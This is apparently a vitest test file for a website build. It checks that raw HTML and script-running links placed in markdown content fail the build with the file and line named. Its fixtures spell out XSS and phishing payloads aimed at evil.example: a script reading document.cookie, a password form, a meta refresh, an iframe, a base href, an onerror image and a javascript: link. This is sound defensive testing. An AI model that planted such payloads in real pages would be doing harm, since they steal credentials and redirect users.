/**
 * Raw HTML never reaches a page, an e-mail or the API from content/: markdown that holds it (other
 * than a few harmless inline tags), or a link that runs a script, fails the build, naming the file
 * and the line, in every collection rendered from markdown. The hostile issue builds a throw-away
 * copy of the site; the iframes stop the content sync the build starts with, which runs alone.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { afterEach, describe, expect, test } from 'vitest';
import { copySite, type SiteCopy } from '../../scripts/harness/site-copy';

let site: SiteCopy | undefined;
afterEach(() => site?.remove());

const ISSUE = 'content/newsletter/three-automations-before-the-new-year.md';
const HOSTILE = 'content/newsletter/hostile.md';

/** What an attacker with write access to content/ tried, a construct a line, and the line it lands on in HOSTILE. */
const ATTEMPTS: [line: number, markdown: string, named: string][] = [
  [10, '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<meta http-equiv="refresh"'],
  [12, '<style>body { display: none }</style>', '<style>'],
  [14, '<script>alert(document.cookie)</script>', '<script>'],
  [16, '<form action="https://evil.example/"><input name="password"></form>', '<form action='],
  [18, '<iframe src="https://evil.example/"></iframe>', '<iframe src='],
  [20, '<base href="https://evil.example/">', '<base href='],
  [22, 'A picture: <img src="x" onerror="alert(1)">', '<img src="x" onerror='],
  [24, '[Read more](javascript:alert(1))', 'javascript:alert(1)'],
];

describe('raw HTML in content', () => {
  test('a hostile issue fails the build, each construct named with its file and line', () => {
    site = copySite();
    const issue = readFileSync(site.file(ISSUE), 'utf8');
    const frontmatter = /^---\n[\s\S]*?\n---\n/.exec(issue)?.[0] ?? '';
    // Line 9 is the first of the body: frontmatter (8 lines), then each attempt after a blank line.
    expect(frontmatter.split('\n')).toHaveLength(9);
    writeFileSync(
      site.file(HOSTILE),
      `${frontmatter}${ATTEMPTS.map(([, markdown]) => `\n${markdown}\n`).join('')}\nAn <sup>allowed</sup> tag.\n`,
    );
    const { status, output } = site.build();
    expect(status, 'the build of an issue with raw HTML').not.toBe(0);
    for (const [line, , named] of ATTEMPTS) expect(output).toContain(`${HOSTILE}:${line}: ${named}`);
    // Nothing of it was published: no page, no mailing.
    expect(existsSync(site.file('dist/newsletter/hostile.html'))).toBe(false);
    expect(existsSync(site.file('dist/mailings.json'))).toBe(false);
  });

  test.each([
    ['a post', 'content/blog/what-to-automate-first.md'],
    ['a sector', 'content/sectors/saas.md'],
    ['a guide', 'content/guides/zoho-google-workspace.md'],
    ['the privacy policy', 'content/legal/privacy-policy.md'],
  ])('an iframe in %s fails the build, naming the file and the line', async (_, file) => {
    site = copySite();
    const text = readFileSync(site.file(file), 'utf8');
    writeFileSync(site.file(file), `${text.trimEnd()}\n\n<iframe src="https://evil.example/"></iframe>\n`);
    const line = text.trimEnd().split('\n').length + 2;
    expect(await site.checkContent()).toContain(`${file}:${line}: <iframe src=`);
  });
});
